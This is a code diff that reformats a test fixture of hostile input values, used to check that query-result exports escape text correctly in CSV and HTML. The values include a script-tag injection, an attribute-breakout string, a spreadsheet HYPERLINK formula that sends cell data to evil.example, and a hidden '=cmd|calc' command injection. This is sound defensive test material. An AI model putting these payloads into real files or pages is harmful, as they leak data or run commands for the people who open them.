@@ -11,7 +11,13 @@ export interface HostileValue {
 
 /** What a person reads on the page: the HTML's text, where the parser turns a CR into a line feed. */
 export function shownText(h: HostileValue): string {
-  return h.html.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&#39;', "'").replaceAll('&amp;', '&').replace(/\r\n?/g, '\n');
+  return h.html
+    .replaceAll('&lt;', '<')
+    .replaceAll('&gt;', '>')
+    .replaceAll('&quot;', '"')
+    .replaceAll('&#39;', "'")
+    .replaceAll('&amp;', '&')
+    .replace(/\r\n?/g, '\n');
 }
 
 export const HOSTILE: readonly HostileValue[] = [
@@ -20,7 +26,11 @@ export const HOSTILE: readonly HostileValue[] = [
   { value: 'say "hi"', csv: 'say "hi"', html: 'say &quot;hi&quot;' },
   { value: 'line one\nline two', csv: 'line one\nline two', html: 'line one\nline two' },
   { value: '<script>window.pwned = 1</script>', csv: '<script>window.pwned = 1</script>', html: '&lt;script&gt;window.pwned = 1&lt;/script&gt;' },
-  { value: '=HYPERLINK("http://evil.example/?x="&A1,"click")', csv: '\'=HYPERLINK("http://evil.example/?x="&A1,"click")', html: '=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)' },
+  {
+    value: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    csv: '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    html: '=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)',
+  },
   { value: '+1+2', csv: "'+1+2", html: '+1+2' },
   { value: '-2+3', csv: "'-2+3", html: '-2+3' },
   { value: '@SUM(A1:A9)', csv: "'@SUM(A1:A9)", html: '@SUM(A1:A9)' },
@@ -30,7 +40,11 @@ export const HOSTILE: readonly HostileValue[] = [
   { value: '\u202E=cmd|calc', csv: "'\u202E=cmd|calc", html: '⟨U+202E⟩=cmd|calc' },
   { value: 'mark\u200Fed \u2067isolate\u2069', csv: 'mark\u200Fed \u2067isolate\u2069', html: 'mark⟨U+200F⟩ed ⟨U+2067⟩isolate⟨U+2069⟩' },
   { value: ' =1', csv: "' =1", html: ' =1' },
-  { value: '<b>bold</b> & "quoted" \'single\'', csv: '<b>bold</b> & "quoted" \'single\'', html: '&lt;b&gt;bold&lt;/b&gt; &amp; &quot;quoted&quot; &#39;single&#39;' },
+  {
+    value: '<b>bold</b> & "quoted" \'single\'',
+    csv: '<b>bold</b> & "quoted" \'single\'',
+    html: '&lt;b&gt;bold&lt;/b&gt; &amp; &quot;quoted&quot; &#39;single&#39;',
+  },
   { value: '" onmouseover="alert(1)', csv: '" onmouseover="alert(1)', html: '&quot; onmouseover=&quot;alert(1)' },
 ];
 
@@ -39,7 +53,11 @@ export function hostileDocument(): ResultDocument {
   return {
     query: 'eni-bytes',
     params: { start: '2026-10-31T00:00:00Z', end: '2026-11-01T00:00:00Z', limit: 25 },
-    columns: [{ name: 'label', type: 'varchar' }, { name: 'bytes', type: 'bigint' }, { name: 'delta', type: 'bigint' }],
+    columns: [
+      { name: 'label', type: 'varchar' },
+      { name: 'bytes', type: 'bigint' },
+      { name: 'delta', type: 'bigint' },
+    ],
     rows: HOSTILE.map((h, i) => ({ label: h.value, bytes: (HOSTILE.length - i) * 1000, delta: i - 5 })),
     stats: { engine: 'local', rowsReturned: HOSTILE.length, elapsedMs: 1, filesRead: 1, bytesRead: 100 },
   };
